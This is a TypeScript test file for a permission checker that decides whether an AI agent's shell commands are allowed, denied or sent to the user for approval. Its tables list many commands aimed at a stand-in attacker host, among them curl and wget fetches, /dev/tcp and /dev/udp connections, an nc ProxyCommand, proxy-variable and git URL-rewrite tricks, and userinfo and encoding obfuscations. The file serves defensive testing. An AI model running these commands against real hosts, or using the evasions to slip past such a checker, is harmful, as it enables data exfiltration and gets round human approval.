// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell texts.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { verdictOn } from './hearings';

function decisionOn(command: string): string {
  const rules = { allow: ['Bash'], ask: [], deny: ['WebFetch(evil.com)'] };
  return verdictOn({ tool: 'Bash', input: { command }, rules }).decision;
}

test('speakingUrl: a host that is known is denied, one that is not may be the denied one', () => {
  const rows: readonly (readonly [command: string, decision: string])[] = [
    ['curl https://evil.com', 'deny'],
    ['curl evil.com/x', 'deny'],
    ['curl a.evil.com', 'deny'],
    ['xh --proxy all:http://evil.com good.org', 'deny'],
    ['git clone x::https://evil.com/y', 'deny'],
    ['HOME=/tmp/x curl good.org', 'ask'],
    ['KUBECONFIG=x kubectl apply -f y', 'ask'],
    ['PIP_CONFIG_FILE=x pip install y', 'ask'],
    ['curl EVIL.com.', 'deny'],
    ['git clone git@evil.com:x', 'deny'],
    ['curl "https://evil.com/$x"', 'deny'],
    ['curl "https://evil.com?$x"', 'deny'],
    ['curl "https://evil.com#$x"', 'deny'],
    ['curl "HTTPS://evil.com/$x"', 'deny'],
    ['u=https://evil.com; curl "$u"', 'deny'],
    ['curl "https://evil.com$x"', 'deny'],
    ['curl "https://ev$x"', 'ask'],
    ['curl "$x/https://good.com/"', 'ask'],
    ['curl "a https://good.com/$x"', 'ask'],
    ['curl "$x"', 'ask'],
    ['curl $x', 'ask'],
    ['curl https://good.com/$x', 'ask'],
    ['curl https://good.com?x', 'ask'],
    ['curl https://*/x', 'ask'],
    ['curl https://good.com/?$x', 'ask'],
    // curl and wget go to what stands behind the `@`, browsers to what stands before the backslash.
    ["curl 'https://good.com\\@evil.com'", 'ask'],
    ["curl 'ftp://good.com\\@evil.com'", 'ask'],
    ["wget 'https://good.com\\@evil.com'", 'ask'],
    ["curl 'https://a@good.com@evil.com'", 'deny'],
    ['curl ftp://good.com/x', 'allow'],
    ['curl https://good.com', 'allow'],
    ['curl "https://good.com/$x"', 'allow'],
    ['curl https://good.com/x?y=1', 'allow'],
    ['curl https://good.com/*', 'allow'],
    ['curl https://notevil.com', 'allow'],
    ['curl https://evil.com.org', 'allow'],
    ['curl file:///evil.com', 'allow'],
    ['git clone ./evil.com', 'allow'],
    ['git clone ../evil.com', 'allow'],
  ];
  for (const [command, decision] of rows) {
    assert.equal(decisionOn(command), decision, command);
  }
});

test('speakingUrl: an address in words of which it is not known that they are fetched may be the denied one', () => {
  const rows: readonly (readonly [command: string, decision: string])[] = [
    ['curl --head https://evil.com', 'deny'],
    ['npm install https://evil.com/x.tgz', 'ask'],
    ['npm install --registry=https://evil.com x', 'ask'],
    ['pip install git+https://evil.com/x', 'ask'],
    ['git remote add x https://evil.com/x', 'ask'],
    ['https_proxy=http://evil.com curl https://good.com', 'ask'],
    [`node -e 'fetch("https://evil.com")'`, 'ask'],
    ['u=https://evil.com; foo "$u"', 'ask'],
    ['kubectl apply -f https://a.evil.com/x', 'ask'],
    ['psql postgres://u:p@evil.com/x', 'ask'],
    ['cat </dev/tcp/evil.com/80', 'ask'],
    ['echo x >/dev/udp/evil.com/53', 'ask'],
    ["bash -c 'exec 3<>/dev/tcp/evil.com/80'", 'ask'],
    ['npm install evil.com', 'ask'],
    ['git remote add e evil.com:x/y && git push e', 'ask'],
    ['git remote set-url origin "$x"', 'ask'],
    ['uv add x --index y=https://evil.com', 'ask'],
    ['git -c url.evil.com:.insteadOf=https://good.com/ fetch', 'ask'],
    ['https_proxy=evil.com curl https://good.com', 'ask'],
    ['ALL_PROXY=u:p@evil.com:80 wget https://good.com', 'ask'],
    ['export HTTPS_PROXY=evil.com; curl https://good.com', 'ask'],
    ['https_proxy="$x" curl https://good.com', 'ask'],
    ['export https_proxy=$x; curl https://good.com', 'ask'],
    ['read https_proxy <<< evil.com; curl https://good.com', 'ask'],
    ['read BOTO_CONFIG < f; curl https://good.com', 'ask'],
    [': ${https_proxy:=$(cat f)}; curl https://good.com', 'ask'],
    ['wait -p https_proxy; curl https://good.com', 'ask'],
    ['vared https_proxy; curl https://good.com', 'ask'],
    ['{https_proxy}< f; curl https://good.com', 'ask'],
    ['all_proxy=($x); curl https://good.com', 'ask'],
    ['CURL_HOME=/tmp curl https://good.com', 'ask'],
    ['curl -K cfg', 'ask'],
    ['echo x | curl -K -', 'ask'],
    ["curl -K - <<< 'url=evil.com'", 'deny'],
    ['wget -i list', 'ask'],
    ['ssh -o HostName=evil.com b', 'deny'],
    ['ssh -Jevil.com b', 'deny'],
    ["ssh -o ProxyCommand='nc evil.com 22' b", 'deny'],
    ['docker pull evil.com/x', 'ask'],
    ['docker pull EVIL.com.:5000/x', 'ask'],
    ['npm i --registry sub.evil.com', 'ask'],
    ['npm i --registry=evil%2ecom', 'ask'],
    ['GOPROXY=evil.com,direct go get x', 'ask'],
    ['foo @evil.com', 'ask'],
    [`foo a,evil.com ${'x'.repeat(30)}`, 'ask'],
    [`foo ${'x'.repeat(30_000)}.com`, 'ask'],
    ["curl -K - <<< 'url=good.com'", 'allow'],
    ['https_proxy=good.com curl https://good.com', 'allow'],
    ['no_proxy=$x curl https://good.com', 'allow'],
    ['foo evil.common a/evil.com.txt', 'allow'],
    ['npm install https://good.com/x.tgz', 'allow'],
    ['foo https://evil.com.org https://notevil.com', 'allow'],
    ['echo https://evil.com', 'allow'],
    ['grep https://evil.com a', 'allow'],
    ['foo ://', 'allow'],
  ];
  for (const [command, decision] of rows) {
    assert.equal(decisionOn(command), decision, command);
  }
});
